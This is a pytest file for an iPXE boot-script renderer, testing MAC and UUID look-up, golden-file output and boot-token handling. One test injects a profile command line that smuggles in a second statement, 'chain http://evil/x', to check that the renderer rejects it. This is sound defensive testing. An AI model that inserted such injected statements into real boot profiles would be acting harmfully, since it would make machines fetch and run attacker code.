"""iPXE scripts: look-up by MAC/UUID, one template per boot source, compared with golden files."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from sqlalchemy import select, update

from appliance.boot.ipxe import ScriptRenderer, find_target, make_environment, normalize_mac
from appliance.store.tables import BootTokenRow
from tests.unit.boot.conftest import Inventory, profile_doc

GOLDEN = Path(__file__).resolve().parents[2] / "golden" / "ipxe"
BASE = "http://10.77.0.1:8080"


def render(inv: Inventory, mac: str | None, uuid: str | None = None) -> str:
    """The script, with the engine's (random) boot tokens shown as TOKEN for the golden files."""
    renderer = ScriptRenderer(BASE, key=inv.key)
    with inv.store.read() as s:
        text = renderer.render(s, mac, uuid).text
    for token in inv.tokens.values():
        text = text.replace(token, "TOKEN")
    return text


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("ANVIL_REGEN_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    assert text == path.read_text(), f"{name} differs from its golden file"


CASES = [
    ("image-by-blade-mac.ipxe", "52:54:00:00:01:01", None),
    ("image-by-profile-mac.ipxe", "02-A0-00-00-00-01", None),
    ("image-by-uuid.ipxe", None, "4C4C4544-0042-3510-8052-B4C04F384D32"),
    ("iscsi-sanboot.ipxe", "52:54:00:00:02:01", None),
    ("iscsi-sanhook-image.ipxe", "02:a0:00:00:04:01", None),
    ("local-legacy.ipxe", "52:54:00:00:03:01", None),
    ("unbound-blade.ipxe", "52:54:00:00:05:01", None),
    ("unbound-blade-by-uuid.ipxe", None, "11111111-2222-3333-4444-555555555555"),
    ("discover.ipxe", "52:54:00:99:99:99", None),
]


@pytest.mark.parametrize(("golden", "mac", "uuid"), CASES, ids=[c[0] for c in CASES])
def test_script_matches_golden_file(inventory: Inventory, golden: str, mac: str | None, uuid: str | None) -> None:
    text = render(inventory, mac, uuid)
    check_golden(golden, text)
    lines = text.splitlines()
    assert lines[0] == "#!ipxe"
    assert all(line == line.strip() and line for line in lines), "one statement per line, no blank lines"
    assert "{{" not in text and "{%" not in text


def test_local_uefi_exits(inventory: Inventory) -> None:
    inventory.add_blade("blade-6", ("52:54:00:00:06:01",))
    inventory.add_profile(profile_doc("local-02", {"type": "local"}, macs=("02:a0:00:00:06:01",)))
    inventory.bind("local-02", "blade-6")
    assert render(inventory, "52:54:00:00:06:01").splitlines()[-1] == "exit"


def test_fc_source_hands_over_to_the_next_boot_device(inventory: Inventory) -> None:
    inventory.add_blade("blade-7", ("52:54:00:00:07:01",))
    inventory.add_profile(profile_doc("fc-01", {"type": "fc", "targetWwpn": "50:06:01:60:3e:a0:12:34", "lun": 1},
                                      mode="legacy"))
    inventory.bind("fc-01", "blade-7")
    assert render(inventory, "52:54:00:00:07:01").splitlines()[-1] == "sanboot --no-describe --drive 0x80"


def test_a_script_carries_the_engines_attempt_and_fetching_it_changes_nothing(inventory: Inventory) -> None:
    renderer = ScriptRenderer(BASE, key=inventory.key)

    def token() -> str:
        with inventory.store.read() as s:
            m = re.search(r"anvil\.token=(\S+)", renderer.render(s, "52:54:00:00:01:01").text)
        assert m
        return m.group(1)

    with inventory.store.read() as s:
        before = s.scalars(select(BootTokenRow.id)).all()
    assert token() == token() == inventory.tokens["web-01"]
    with inventory.store.read() as s:
        rows = s.scalars(select(BootTokenRow)).all()
    assert [r.id for r in rows] == before and all(inventory.tokens["web-01"] != r.token_hash for r in rows)
    first = inventory.tokens["web-01"]
    renewed = inventory.open_attempt("web-01")             # the engine's new attempt, not a fetch, changes it
    assert token() == renewed != first


def test_an_image_without_an_open_attempt_boots_but_cannot_call_back(inventory: Inventory) -> None:
    with inventory.store.write() as s:
        s.execute(update(BootTokenRow).values(voided_at=BootTokenRow.created_at))
    text = render(inventory, "52:54:00:00:01:01")
    assert "kernel http://10.77.0.1:8080/boot/images/lab/vmlinuz" in text
    assert "anvil.token" not in text and "anvil.callback" not in text and "anvil.profile=acme/web-01" in text


def test_no_token_for_sources_that_do_not_call_back(inventory: Inventory) -> None:
    renderer = ScriptRenderer(BASE, key=inventory.key)
    with inventory.store.read() as s:
        for mac in ("52:54:00:00:02:01", "52:54:00:00:03:01", "52:54:00:00:05:01", "52:54:00:99:99:99"):
            script = renderer.render(s, mac)
            assert not script.token_issued and "anvil.token" not in script.text


def test_profile_values_cannot_add_statements(inventory: Inventory) -> None:
    inventory.add_blade("blade-8", ("52:54:00:00:08:01",))
    inventory.add_profile(profile_doc("evil-01", {"type": "image", "kernel": "k", "initrd": "i",
                                                  "cmdline": "quiet\nchain http://evil/x"}))
    inventory.bind("evil-01", "blade-8")
    with pytest.raises(ValueError, match="control character") as err:
        render(inventory, "52:54:00:00:08:01")
    # The error reaches the log: it must not quote the command line, which carries the boot token.
    assert "anvil.token" not in str(err.value) and "evil" not in str(err.value)


def test_released_binding_is_not_found_by_its_profile_mac(inventory: Inventory) -> None:
    from appliance.store.tables import BindingRow

    with inventory.store.write() as s:
        s.get(BindingRow, inventory.bindings["web-01"]).state = "released"  # type: ignore[union-attr]
    with inventory.store.read() as s:
        assert find_target(s, "02:a0:00:00:00:01") is None
        target = find_target(s, "52:54:00:00:01:01")
    assert target is not None and target.binding is None


def test_templates_are_strict() -> None:
    env = make_environment()
    with pytest.raises(Exception, match="undefined"):
        env.get_template("boot.image.ipxe.j2").render()


@pytest.mark.parametrize(("raw", "norm"), [("52:54:00:AA:bb:01", "52:54:00:aa:bb:01"),
                                           ("52-54-00-aa-bb-01", "52:54:00:aa:bb:01"),
                                           ("525400aabb01", "52:54:00:aa:bb:01"),
                                           ("52:54:00:aa:bb", None), ("52:54-00:aa:bb:01", None), ("", None)])
def test_normalize_mac(raw: str, norm: str | None) -> None:
    assert normalize_mac(raw) == norm
